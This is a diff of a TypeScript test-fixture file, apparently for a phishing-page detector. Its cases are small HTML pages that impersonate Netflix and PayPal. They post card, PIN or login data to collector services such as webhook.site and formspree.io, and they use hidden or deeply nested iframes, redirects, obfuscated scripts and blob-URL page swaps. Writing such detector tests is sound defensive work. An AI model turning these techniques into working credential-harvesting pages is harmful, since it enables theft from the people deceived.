@@ -14,48 +14,88 @@ const whole = `<iframe src="${elsewhere}" style="position:fixed;inset:0;height:1
 const leaves = `<meta http-equiv="refresh" content="1;url=${elsewhere}">`
 const names = Array.from({ length: 31 }, (_, n) => `_0x${(n + 4096).toString(16)}=1`).join(";")
 
-/** Rule → a draft that is flagged, and is not without the rule; for those that decide none of the other drafts. */
-export const ruleCases: Readonly<Record<string, GivenDraft>> = {
-  "card-under-sign-in": site("card, asks to sign in", ours, `<h1>Sign in to Netflix</h1>${card("/pay")}`),
-  "card-under-owner": site("card, copyright", ours, `<h1>${ours}</h1>${card(elsewhere)}${footer("Netflix")}`),
-  "card-under-logo": site(
-    "card, logo",
-    ours,
-    `<base href="${elsewhere}"><h1>${ours}</h1><img class="logo" src="l.png" alt="Netflix">${card("pay")}`,
-  ),
-  "card-with-secret": site(
-    "card and PIN",
-    ours,
-    `<h1>${ours}</h1>${form(elsewhere, `<input name="cardnumber"><input name="pin">`)}`,
-  ),
-  "masked-under-sign-in": site("masked, asks to sign in", ours, `<h1>Sign in to PayPal</h1>${masked("/in")}`),
-  "masked-under-heading": site("masked, heading", ours, `<h1>PayPal ferries</h1>${masked(chat)}`),
-  "masked-under-owner": site("masked, copyright", ours, `<h1>${ours}</h1>${masked(chat)}${footer("PayPal")}`),
-  "masked-under-near-title": site(
-    "masked, title with more words",
-    "PayPal ferries",
-    `${leaves}<h1>${ours}</h1>${masked(chat)}`,
-  ),
-  "secret-to-collector": site("to a collector", ours, `<h1>${ours}</h1>${login("https://webhook.site/1")}`),
-  "secret-to-form-relay": site("to a relay", ours, `<h1>${ours}</h1>${login("https://formspree.io/f/1")}`),
-  "form-to-chat": site("to a chat", ours, `${leaves}<h1>${ours}</h1>${whole}${form(chat, `<input name="x">`)}`),
-  "hidden-frame": site(
-    "unseen frame",
-    ours,
-    `<h1>${ours}</h1>${login(`${elsewhere}next.php`)}<iframe hidden src="a.html"></iframe>`,
-  ),
-  obscured: site(
-    "unreadable",
-    ours,
-    `<h1>${ours}</h1>${login(`${elsewhere}next.php`)}<script>var a="b";${names}</script>`,
-  ),
-  "blob-page": site(
-    "page of a script",
-    ours,
-    `<h1>${ours}</h1>${login(`${elsewhere}next.php`)}<script>location=URL.createObjectURL(new Blob([a],{type:"text/html"}))</script>`,
-  ),
-  "secret-in-other-file": {
-    id: "no page by its name",
-    files: { "a.txt": `<!doctype html><title>${ours}</title><h1>${ours}</h1>${login(elsewhere)}` },
-  },
-}
+/** A page in an address in a page, and so on. */
+export const nested = Array.from({ length: 6 }).reduce<string>(
+  (inner) => `<iframe src="data:text/html,${encodeURIComponent(inner)}"></iframe>`,
+  "<p>Moss</p>",
+)
+
+/** A rule, and a draft that is flagged and is not without the rule. */
+export const ruleCases: ReadonlyArray<readonly [rule: string, draft: GivenDraft]> = [
+  ["asks-under-sign-in", site("card, asks to sign in", ours, `<h1>Sign in to Netflix</h1>${card("/pay")}`)],
+  ["asks-under-owner", site("card, copyright", ours, `<h1>${ours}</h1>${card(elsewhere)}${footer("Netflix")}`)],
+  [
+    "asks-under-logo",
+    site(
+      "card, logo",
+      ours,
+      `<base href="${elsewhere}"><h1>${ours}</h1><img class="logo" src="l.png" alt="Netflix">${card("pay")}`,
+    ),
+  ],
+  [
+    "card-with-secret",
+    site("card and PIN", ours, `<h1>${ours}</h1>${form(elsewhere, `<input name="cardnumber"><input name="pin">`)}`),
+  ],
+  ["asks-under-sign-in", site("masked, asks to sign in", ours, `<h1>Sign in to PayPal</h1>${masked("/in")}`)],
+  ["asks-under-heading", site("masked, heading", ours, `<h1>PayPal ferries</h1>${masked(chat)}`)],
+  ["asks-under-owner", site("masked, copyright", ours, `<h1>${ours}</h1>${masked(chat)}${footer("PayPal")}`)],
+  [
+    "asks-under-near-title",
+    site("masked, title with more words", "PayPal ferries", `${leaves}<h1>${ours}</h1>${masked(chat)}`),
+  ],
+  ["secret-to-collector", site("to a collector", ours, `<h1>${ours}</h1>${login("https://webhook.site/1")}`)],
+  ["secret-to-form-relay", site("to a relay", ours, `<h1>${ours}</h1>${login("https://formspree.io/f/1")}`)],
+  ["form-to-chat", site("to a chat", ours, `${leaves}<h1>${ours}</h1>${whole}${form(chat, `<input name="x">`)}`)],
+  [
+    "hidden-frame",
+    site("unseen frame", ours, `<h1>${ours}</h1>${login(`${elsewhere}next.php`)}<iframe hidden src="a.html"></iframe>`),
+  ],
+  [
+    "obscured",
+    site("unreadable", ours, `<h1>${ours}</h1>${login(`${elsewhere}next.php`)}<script>var a="b";${names}</script>`),
+  ],
+  [
+    "blob-page",
+    site(
+      "page of a script",
+      ours,
+      `<h1>${ours}</h1>${login(`${elsewhere}next.php`)}<script>location=URL.createObjectURL(new Blob([a],{type:"text/html"}))</script>`,
+    ),
+  ],
+  [
+    "secret-in-other-file",
+    {
+      id: "no page by its name",
+      files: { "a.txt": `<!doctype html><title>${ours}</title><h1>${ours}</h1>${login(elsewhere)}` },
+    },
+  ],
+  [
+    "logo-by-address",
+    site(
+      "logo of any company",
+      ours,
+      `<h1>${ours}</h1><img src="https://logo.clearbit.com/skerry.example">${login(elsewhere)}`,
+    ),
+  ],
+  [
+    "company-image-under-name",
+    site(
+      "picture of that company",
+      "PayPal ferries",
+      `<h1>${ours}</h1><img src="https://www.paypalobjects.com/a.png">${login("/in")}`,
+    ),
+  ],
+  [
+    "choose-mailbox",
+    site("whichever mail", "Ferry list", `<ul><li>Outlook</li><li>Gmail</li><li>Yahoo</li></ul>${login(elsewhere)}`),
+  ],
+  [
+    "asks-under-letterhead",
+    site(
+      "head of a letter",
+      "Ferry tickets",
+      `<div>PayPal</div><img src="https://www.paypalobjects.com/a.png">${login("/in")}`,
+    ),
+  ],
+  ["deeper-than-read", site("six pages deep", ours, `<h1>${ours}</h1>${login(`${elsewhere}`)}${nested}`)],
+]
